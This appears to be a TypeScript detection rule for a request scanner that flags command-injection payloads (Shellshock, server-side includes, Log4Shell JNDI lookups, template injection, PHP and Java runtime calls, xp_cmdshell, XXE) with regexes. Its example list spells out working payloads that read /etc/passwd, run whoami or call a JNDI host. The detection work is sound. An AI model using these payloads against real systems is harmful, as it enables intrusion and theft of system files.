import { requestValueBefore } from '../../request-value.js';
import type { Rule } from '../../rule.js';

/** Whether a match stands in the value of a request; a text on its own is one only behind a single word. */
function isInjected(before: string, fromStart: boolean): boolean {
  const value = requestValueBefore(before, fromStart);
  return value !== undefined && (!value.bare || /^\S*\s?[&|]?$/.test(value.before));
}

export const rule: Rule = {
  pattern: 'command_injection',
  variant: 'payload',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'high',
  confidence: 'high',
  group: 'command-injection',
  about:
    'A text that exists for nothing but breaking into a program that passes it on: to a shell, a page or a logger.',
  anatomy: 'function definitions of Shellshock, server-side includes, JNDI look-ups, separators before system paths',
  source: 'https://cwe.mitre.org/data/definitions/77.html and https://nvd.nist.gov/vuln/detail/CVE-2014-6271',
  match: [
    { re: /\(\) ?\{ ?:; ?\}/ },
    { re: /\(\) ?\{ ?_; ?\} ?>_\[/ },
    {
      re: /:\s\(\) ?\{/,
      accept: ({ before, after, fromStart }) =>
        /(?:^|\n)[\w-]{3,30}$/.test(before) &&
        /^\s*(?:$|:|_)/.test(after) &&
        requestValueBefore(`${before}: `, fromStart) !== undefined,
    },
    // Commands written in nothing but arithmetic: `$((1<<1))#1001` is a number in base two
    { re: /\$\(\((?:1<<1|\$#\+\$\(\(|\$\{##\})/ },
    { re: /<!--\s?#\s?(?:exec|include)\s+(?:cmd|cgi|virtual|file)=/i },
    { re: /jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?):\/\// },
    { re: /\$\{(?:jndi|\$\{(?:lower|upper|env|sys|::-|:)|(?:lower|upper):[jndi]\})/ },
    {
      re: /[;|&`]\s?(?:\/bin\/)?(?:cat|head|tail|more|less|nl|tac|strings)\s+(?:\/etc\/(?:passwd|shadow|group|hosts)|\/proc\/self|\.\.\/\.\.\/)/,
      // In Markdown a word in such quotes is code that is shown; a shell's stand in something else.
      accept: ({ before, text, fromStart }) =>
        !text.startsWith('`') || /[^\s(*_>]$/.test(before) || requestValueBefore(before, fromStart)?.bare === false,
    },
    {
      re: /(?:'|")?\s?(?:;|\|\|?|&&?)\s?(?:sleep|ping\s+-[nci])\s+\d{1,3}(?:\s+127\.0\.0\.1)?\s?(?:;|\||&|#|'|")/,
      accept: ({ before, fromStart }) => isInjected(before, fromStart),
    },
    // A call that only a probe makes, in the value of a request.
    { re: /\{\$\{(?:phpinfo|print|eval|system|exec|sleep|passthru|@print|@eval|@system)\(/ },
    {
      re: /[;|&'"]\s?phpinfo\(\)/,
      accept: ({ before, fromStart }) => isInjected(before, fromStart),
    },
    {
      re: /(?:system|exec|eval|passthru|shell_exec|popen)\(["'](?:cat|type|less|head)[ +%]{1,3}(?:20)?(?:\/etc\/|c:\\boot)/i,
    },
    {
      re: /(?:system|exec|eval|passthru|shell_exec|popen)\(["'](?:whoami|uname(?: -a)?|id|pwd|ls|sleep \d{1,3}|(?:curl|wget) https?:\/\/[\w./?=&-]{4,100})["']\)/i,
      accept: ({ before, fromStart }) => isInjected(before, fromStart),
    },
    { re: /(?<=\()(?:T\(java\.lang\.Runtime\)|new java\.lang\.ProcessBuilder)/ },
    { re: /\{\{[^}\n]*(?:__class__|__globals__|__import__|__subclasses__|popen\s*\(|getRuntime)/, window: 300 },
    { re: /%\{\(?#[\w.]+=[^\n]*@java\.lang\.Runtime/, window: 600 },
    { re: /@java\.lang\.Runtime@getRuntime/ },
    { re: /';?\s?exec\s(?:master\.\.)?xp_cmdshell/i },
    {
      re: /<\?xml[^]*<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+["'](?:file|https?|expect|php|ftp):/,
      window: 600,
      accept: ({ text }) => /file:\/\/\/(?:etc|proc|c:)|expect:|php:/i.test(text),
    },
  ],
  examples: {
    fires: [
      '() { :;}; /bin/sleep 5',
      '<!--#exec cmd="/bin/cat /etc/passwd"-->',
      '${jndi:ldap://files.invalid/a}',
      'x; cat /etc/passwd',
      "$0<<<$'\\\\$(($((1<<1))#10011010))'",
      '/get?x=`cat /etc/passwd`',
      '/get?host=127.0.0.1 && sleep 5 #',
      '${${lower:j}ndi:ldap://files.invalid/a}',
      "{{ ''.__class__.__mro__[1].__subclasses__() }}",
      '{${phpinfo()}}',
      "/get?x=';phpinfo();//",
      "system('cat /etc/passwd');",
      "/get?x=1;system('whoami');",
    ],
    silent: [
      'function f() { return 1; }',
      '<!-- #include the header -->',
      'the JNDI lookup of a data source: java:comp/env',
      'first; cat file.txt',
      '{{ user.name }}',
      "const name = run(() => {\n  exec('whoami');",
      'See the output of phpinfo().',
      '- Print the accounts of this machine:\n\n`cat /etc/passwd`',
      'ssh -f user@host "echo foo; sleep 5; echo bar"',
    ],
  },
};
